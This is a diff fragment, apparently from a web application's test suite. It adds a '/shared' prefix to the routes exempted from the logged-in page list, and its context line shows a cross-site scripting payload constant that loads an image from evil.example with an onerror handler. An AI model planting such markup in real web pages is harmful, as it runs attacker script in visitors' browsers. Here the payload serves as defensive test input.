@@ -24,7 +24,7 @@ EVIL = '<script>alert(1)</script><img src="https://evil.example/x.png" onerror="
 
 def routes() -> list[str]:
     """Every page of the desk that needs somebody logged in."""
-    return [path for path in desk_routes() if not path.startswith(("/login", "/setup"))]
+    return [path for path in desk_routes() if not path.startswith(("/login", "/setup", "/shared"))]
 
 
 # -- who is there
